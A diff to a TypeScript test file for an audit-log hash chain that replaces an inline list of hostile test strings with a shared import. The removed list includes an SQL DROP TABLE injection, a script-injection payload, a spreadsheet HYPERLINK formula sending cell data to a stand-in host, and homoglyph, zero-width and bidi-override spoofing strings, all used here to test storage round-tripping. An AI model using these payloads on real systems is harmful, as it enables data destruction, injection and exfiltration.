@@ -7,6 +7,7 @@ import { auditEvents, auditStreams } from '@/db/schema';
 import { chainHash, GENESIS_HASH, leafHash, type EventEnvelope } from './chain';
 import type { DashboardEventInput } from './types';
 import { appendToStream, writeAuditEvent, writeAuditEvents, type NewEvent } from './writer';
+import { HOSTILE_STRINGS } from '@/db/testing/hostile';
 
 let t: TestDatabase;
 let dashboardId: string;
@@ -240,22 +241,7 @@ describe('concurrent writers on the dashboard stream', () => {
 
 describe('values round-trip exactly from storage', () => {
   it('hostile strings, unicode, numbers and odd keys re-hash identically after storage', async () => {
-    const hostile = [
-      "'; DROP TABLE audit_events;--",
-      '<script>window.__pwned=1</script>',
-      '=HYPERLINK("http://evil.example/?x="&A1,"x")',
-      'аdmin',
-      'ad\u200Bmin',
-      '\u202Eevil',
-      'e\u0301',
-      'é',
-      'line1\r\nline2',
-      'a\u2028b',
-      '\x1b[31mred',
-      '👩‍💻',
-      '  padded  ',
-      '',
-    ];
+    const hostile = HOSTILE_STRINGS;
     await t.db.transaction((tx) =>
       writeAuditEvents(
         tx,
